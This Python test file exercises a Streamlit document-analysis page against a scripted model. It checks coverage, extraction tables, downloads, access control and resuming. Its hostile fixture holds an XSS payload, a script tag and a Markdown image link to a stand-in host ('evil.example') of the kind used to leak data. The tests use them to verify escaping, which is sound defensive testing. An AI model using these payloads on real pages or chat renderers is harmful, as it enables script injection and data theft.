"""The Analyze page driven through Streamlit's AppTest, on the real services and database with a
scripted model injected as the shared backend (what is checked is the page: coverage first, the
table, escaping, downloads, who sees what); the embedded model runs analyze end to end in
tests/integration/test_analyze_model.py."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from fakes import ScriptedBackend
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from app.servers.turns import ModelTurns
from app.services.access import Principal
from app.services.analysis.store import analyses
from app.services.ingesting import ingest
from engine.types import Completion, Stream, Usage

VIEWS = Path(__file__).resolve().parents[2] / "ui" / "views"
SOURCE = re.compile(r'<source id="(S\d+)" path="([^"]+)"')
HOSTILE = "<img src=x onerror=alert(1)> ![leak](https://evil.example/x?k=1) **LOUD**"


class Analyst(ScriptedBackend):
    """A perfect scripted model: a guide line per source it is shown (a briefing), or each
    contract's party and amount, cited, with `signed by` not found (an extraction). The hostile
    source's text is repeated as is, as a model quoting a document would."""

    dead = False  # the server went away: every call breaks off

    def stream(self, request):
        if self.dead:
            self.requests.append(request)
            return Stream(iter(()), lambda: Completion(
                "", Usage(), finish_reason="incomplete", error="connection reset"))
        text = request.prefix + request.prompt
        ids = SOURCE.findall(text)
        if "party" in request.prompt:
            rows = []
            for sid, path in ids:
                if path == "evil.md":
                    rows.append(json.dumps({"source": sid, "party": {"value": HOSTILE,
                                                                     "cite": f"[{sid}]"}}))
                    continue
                n = int(path[1:3])
                party = "Globex" if n == 2 else f"Acme {n} Ltd"  # not in c02: unchecked
                rows.append(json.dumps({"source": sid,
                                        "party": {"value": party, "cite": f"[{sid}]"},
                                        "amount": {"value": 1000 if n == 0  # a number
                                                   else f"{1000 + n} EUR",
                                                   "cite": f"[{sid}]"},
                                        "signed by": None}))
            self.reply = "\n".join(rows)
        else:
            self.reply = "Themes: supply contracts [S1].\n" + "\n".join(
                f"[{sid}] {HOSTILE if path == 'evil.md' else 'a supply contract'}. "
                "Ask: who pays?" for sid, path in ids)
        return super().stream(request)


@pytest.fixture
def corpus(tmp_path, monkeypatch):
    """Three contracts and one hostile document, owned by alice; the scripted model shared."""
    src = tmp_path / "contracts"
    src.mkdir()
    for i in range(3):
        (src / f"c{i:02}.txt").write_text(f"Supply contract {i}\nParty: Acme {i} Ltd\n"
                                          f"Amount: {1000 + i} EUR\n")
    (src / "evil.md").write_text(f"# Notes\n{HOSTILE}\n<script>alert(2)</script>\n")
    ingest([src], "contracts", who=Principal("alice"))
    backend = Analyst(window=100_000)
    import ui.shared_backend

    monkeypatch.setattr(ui.shared_backend, "shared", lambda prefs: ModelTurns(backend))
    monkeypatch.setenv("SCOUTLENS_UI_AUTH", "header")
    return backend


def as_person(name: str, page: str = "analyze") -> AppTest:
    at = AppTest.from_file(str(VIEWS / f"{page}_page.py"), default_timeout=60)
    at.session_state["signed_in_as"] = Principal(name)
    at.session_state["active_corpus"] = "contracts"  # the corpus page opens on it
    at.run()
    assert not at.exception, at.exception
    return at


def run(at: AppTest) -> AppTest:
    next(b for b in at.button if b.label == "Analyze").click().run()
    assert not at.exception, at.exception
    return at


def in_order(node):
    """The page's elements top to bottom, as `type:label-or-value`."""
    children = getattr(node, "children", None)
    if children is not None:
        for key in sorted(children):
            yield from in_order(children[key])
        return
    name = getattr(node, "type", "")
    yield f"{name}:{getattr(node, 'label', None) or getattr(node, 'value', '')}"


def links(at: AppTest) -> dict[str, bytes]:
    """The download links drawn into the page: file name -> the bytes they carry."""
    out = {}
    for m in at.markdown:
        for data, name in re.findall(r'href="data:[^;"]+(?:;charset=utf-8)?;base64,([^"]+)" '
                                     r'download="([^"]+)"', str(m.value)):
            out[name] = base64.b64decode(data)
    return out


def test_a_briefing_shows_coverage_first_and_document_text_as_text(corpus):
    at = as_person("alice")
    assert at.selectbox[0].value == "contracts"
    at = run(at)
    assert at.status and at.status[0].label.startswith("Done: 4 of 4 sources read")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Coverage"] == "100%" and metrics["Sources read"] == "4 of 4"
    body = [str(m.value) for m in at.markdown]
    shown = list(in_order(at.main))  # coverage comes before the briefing's text
    assert shown.index("metric:Coverage") < next(
        i for i, e in enumerate(shown) if e.startswith("markdown:Themes"))
    assert any("Every source was read: 4 of 4" in c.value for c in at.caption)
    guide = [b for b in body if "evil.md" in b]
    assert guide, "the per-source guide names the hostile source"
    for m in at.markdown:  # no image can form, no HTML is rendered from a document
        if m.allow_html:  # a cited source's lines: escaped inside one HTML block
            assert "<img" not in str(m.value) and "<script" not in str(m.value)
        else:
            assert "![" not in str(m.value)
    assert any("\\<img src=x onerror=alert\\(1\\)\\>" in b and "\\*\\*LOUD\\*\\*" in b
               for b in guide), "a guide line is shown as written, every Markdown sign escaped"
    files = links(at)
    assert sorted(Path(n).suffix for n in files) == [".json", ".md"]
    data = json.loads(next(v for n, v in files.items() if n.endswith(".json")))
    assert data["coverage"] == 1.0 and data["kind"] == "brief"

    [done] = analyses("contracts")
    assert done.status == "done"
    page = as_person("alice", "corpora")  # the guide on the corpus's page
    assert any(e.label.startswith(f"Guide to the sources (briefing {done.analysis_id}")
               for e in page.expander)


def test_an_extraction_is_a_table_with_unchecked_cells_marked_and_four_downloads(corpus):
    at = as_person("alice")
    at.radio(key="analyze_kind").set_value("extract").run()
    at.text_input(key="analyze_fields").set_value("party, amount, signed by").run()
    at = run(at)
    table = next(d.value for d in at.dataframe if "party" in d.value.columns)
    rows = {r["source"]: r for r in table.to_dict("records")}
    assert rows["c01.txt"]["party"] == "Acme 1 Ltd" and rows["c01.txt"]["amount"] == "1001 EUR"
    assert rows["c00.txt"]["amount"] == "1000"  # a number among words: the column is text
    assert rows["c02.txt"]["party"].startswith("⚠ ")  # its cited place does not hold it
    assert pd.isna(rows["c01.txt"]["signed by"])  # not found: empty, never invented
    assert rows["evil.md"]["party"] == HOSTILE  # a document's text in a table cell: data
    files = links(at)
    assert sorted(Path(n).suffix for n in files) == [".csv", ".json", ".md", ".xlsx"]
    csv_rows = list(csv.DictReader(io.StringIO(
        next(v for n, v in files.items() if n.endswith(".csv")).decode())))
    assert {r["source"] for r in csv_rows} == set(rows)
    book = load_workbook(io.BytesIO(next(v for n, v in files.items() if n.endswith(".xlsx"))))
    assert book.active.max_row == len(rows) + 1


def test_a_bad_field_list_is_one_line_and_nothing_runs(corpus):
    at = as_person("alice")
    at.radio(key="analyze_kind").set_value("extract").run()
    at.text_input(key="analyze_fields").set_value(", ".join(f"f{i}" for i in range(500))).run()
    assert "500 fields" in at.error[0].value
    assert next(b for b in at.button if b.label == "Analyze").disabled
    at.file_uploader(key="analyze_schema").set_value(
        ("fields.json", b"{not json", "application/json")).run()
    assert "the schema is not JSON" in at.error[0].value
    at.file_uploader(key="analyze_schema").set_value(
        ("fields.json", json.dumps({"properties": {"party": {"description": "who signs"},
                                                   "amount": {}}}).encode(),
         "application/json")).run()
    assert not at.error and not next(b for b in at.button if b.label == "Analyze").disabled
    assert analyses() == [] and corpus.requests == []


def test_another_persons_corpus_is_not_offered(corpus, tmp_path):
    (tmp_path / "b.txt").write_text("Bob's own notes.\n")
    ingest([tmp_path / "b.txt"], "bobs", who=Principal("bob"))
    at = as_person("bob")
    assert at.selectbox[0].options == ["bobs"]
    at.radio(key="analyze_kind").set_value("compare").run()
    at.radio(key="analyze_compare").set_value("this corpus with another").run()
    assert "contracts" not in [o for s in at.selectbox for o in s.options]
    assert any("No other corpus" in i.value for i in at.info)
    alice = as_person("alice")
    alice = run(alice)
    assert not any("Earlier analyses of bobs" in e.label for e in alice.expander)
    bob = as_person("bob")  # alice's analysis is not in bob's list, nor openable by him
    assert any(e.label == "Earlier analyses of bobs (0)" for e in bob.expander)


def test_a_comparison_of_two_sources_lists_the_exact_changes(corpus):
    at = as_person("alice")
    at.radio(key="analyze_kind").set_value("compare").run()
    at.selectbox(key="analyze_left").set_value("c00.txt").run()
    at.selectbox(key="analyze_right").set_value("c01.txt").run()
    at = run(at)
    changes = next(d.value for d in at.dataframe if "change" in d.value.columns)
    assert "changed" in set(changes["change"])
    assert any("Supply contract 0" in b and "Supply contract 1" in a
               for b, a in zip(changes["before"], changes["after"], strict=True))
    at.selectbox(key="analyze_right").set_value("c00.txt").run()  # itself: refused, one line
    assert "two different sources" in at.error[0].value


def test_an_interrupted_analysis_is_listed_and_resumes_under_its_id(corpus):
    corpus.dead = True
    at = run(as_person("alice"))
    assert "keeps its finished calls" in at.error[0].value
    [stopped] = analyses("contracts")
    assert stopped.status == "interrupted"
    corpus.dead = False
    at = as_person("alice")
    assert at.selectbox(key="analyze_pick").value == stopped.analysis_id
    next(b for b in at.button if b.label == "Resume").click().run()
    assert not at.exception, at.exception
    [done] = analyses("contracts")
    assert (done.analysis_id, done.status) == (stopped.analysis_id, "done")
    assert {m.label: m.value for m in at.metric}["Coverage"] == "100%"
